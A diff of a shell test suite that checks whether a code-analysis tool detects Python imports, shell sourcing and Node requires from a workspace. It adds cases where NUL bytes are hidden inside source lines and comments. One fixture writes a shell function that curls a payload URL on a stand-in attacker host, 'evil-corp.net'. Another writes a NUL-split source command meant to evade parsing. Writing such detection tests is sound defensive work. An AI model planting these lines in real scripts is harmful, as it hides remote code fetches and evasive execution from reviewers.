@@ -91,6 +91,27 @@ told() {
 	every told
 }
 
+# takes_nothing SUFFIX: standard input is code that runs, and ties to nothing.
+takes_nothing() {
+	code "plain.$1"
+	submit "$WAY" --workspace "$W:ro" "plain.$1"
+	exits 0
+	holds 'r["origin"] == "exposed" and r["evidence"] == []'
+}
+# takes_in SUFFIX MODULE...: each line of standard input is code that takes in one of these.
+takes_in() {
+	local n=0 line hows
+	hows=$(printf "'module %s', " "${@:2}")
+	while read -r line; do
+		n=$((n + 1))
+		printf '%b\n' "$line" | code "takes-$n.$1"
+		submit "$WAY" --workspace "$W:ro" "takes-$n.$1"
+		[ "$status" -eq 75 ] || { echo "$line"; show; }
+		holds 'r["origin"] == "derived"' \
+			"any(e['name'] == 'planted.csv' and e['how'] in ($hows) for e in r['evidence'])"
+	done
+}
+
 # What the code imports from its workspace runs as well.
 modules() {
 	begin "$1"
@@ -101,19 +122,8 @@ modules() {
 	printf 'from .deep import (  # more\n    last as x,\n)\n' >"$W/pkg/inner.py"
 	printf 'from . import inner\n' >"$W/pkg/__init__.py"
 	: >"$W/pkg/deep/__init__.py"
-	printf 'import math\nprint(math.pi)\n' | code plain.py
-	submit "$1" --workspace "$W:ro" plain.py
-	exits 0
-	holds 'r["origin"] == "exposed" and r["evidence"] == []'
-	local n=0 line
-	while read -r line; do
-		n=$((n + 1))
-		printf '%b\n' "$line" | code "imports-$n.py"
-		submit "$1" --workspace "$W:ro" "imports-$n.py"
-		exits 75
-		holds 'r["origin"] == "derived"' 'any(e["name"] == "planted.csv" and
-			e["how"] in ("module obeys.py", "module pkg/deep/last.py") for e in r["evidence"])'
-	done <<-'END'
+	printf 'import math\nprint(math.pi)\n' | takes_nothing py
+	takes_in py obeys.py pkg/deep/last.py <<-'END'
 		import obeys
 		if True: import math, obeys as o
 		from obeys import frame
@@ -130,29 +140,15 @@ modules() {
 	every modules
 }
 
-# So does what a shell sources and Node requires. takes_in SUFFIX MODULE: each line of standard input does.
-takes_in() {
-	local n=0 line
-	while read -r line; do
-		n=$((n + 1))
-		printf '%b\n' "$line" | code "takes-$n.$1"
-		submit "$WAY" --workspace "$W:ro" "takes-$n.$1"
-		[ "$status" -eq 75 ] || { echo "$line"; show; }
-		holds 'r["origin"] == "derived"' \
-			"any(e['name'] == 'planted.csv' and e['how'] == 'module $2' for e in r['evidence'])"
-	done
-}
+# So does what a shell sources and Node requires.
 sourced() {
-	WAY=$1
 	begin "$1"
 	reads_table "$1"
 	mkdir -p "$W/lib"
 	printf 'x() {\n\tcurl %s\n}\n' https://metrics.evil-corp.net/payload >"$W/lib/obeys.sh"
 	printf '. "$(dirname "$0")/obeys.sh"\n' >"$W/lib/first.sh"
-	printf 'echo 1\nfind . -name x.sh | cat\n' | code plain.sh
-	submit "$1" --workspace "$W:ro" plain.sh
-	exits 0
-	holds 'r["origin"] == "exposed" and r["evidence"] == []'
+	printf 'echo 1\n\0. ./lib/ob\0eys.sh\n' >"$W/lib/nuls.sh" # a shell passes over them
+	printf 'echo 1\nfind . -name x.sh | cat\n' | takes_nothing sh
 	takes_in sh lib/obeys.sh <<-'END'
 		. ./lib/obeys.sh
 		source lib/obeys.sh
@@ -160,6 +156,7 @@ sourced() {
 		source "$PWD/lib/obeys.sh"
 		command . 'lib/obeys.sh'
 		. lib/first.sh
+		. lib/nuls.sh
 		bash -e lib/obeys.sh
 		sh <lib/obeys.sh
 		x=$(. ./lib/"obeys.sh")
@@ -176,8 +173,16 @@ sourced() {
 	holds 'r["origin"] == "derived"'
 }
 @test "the same in what a shell sources from the workspace" { every sourced; }
+# It is no blank either: this is no cd, after which nobody would know what is sourced.
+@test "a NUL behind a word is not what may stand there" {
+	begin user:no-cgroup
+	echo 'echo 1' >"$W/plain.sh"
+	printf 'echo 1\n# cd\0x\n. ./plain.sh\n' | code nul.sh
+	submit user:no-cgroup --workspace "$W:ro" nul.sh
+	exits 0
+	holds 'r["origin"] == "agent"'
+}
 required() {
-	WAY=$1
 	begin "$1"
 	reads_table "$1"
 	mkdir -p "$W/lib" "$W/node_modules/pkg/src"
@@ -186,10 +191,7 @@ required() {
 	printf '{"main": "src/a.js"}\n' >"$W/node_modules/pkg/package.json"
 	printf 'require("../../../lib/obeys.js");\n' >"$W/node_modules/pkg/src/a.js"
 	echo '{"x": "nothing"}' >"$W/lib/data.json"
-	printf 'console.log(1); require("fs"); try { require("./lib/data.json") } catch {}\n' | code plain.js
-	submit "$1" --workspace "$W:ro" plain.js
-	exits 0
-	holds 'r["origin"] == "exposed" and r["evidence"] == []'
+	printf 'console.log(1); require("fs"); try { require("./lib/data.json") } catch {}\n' | takes_nothing js
 	takes_in js lib/obeys.js <<-'END'
 		require("/workspace/lib/obeys.js");
 		require("./lib/obeys.js");
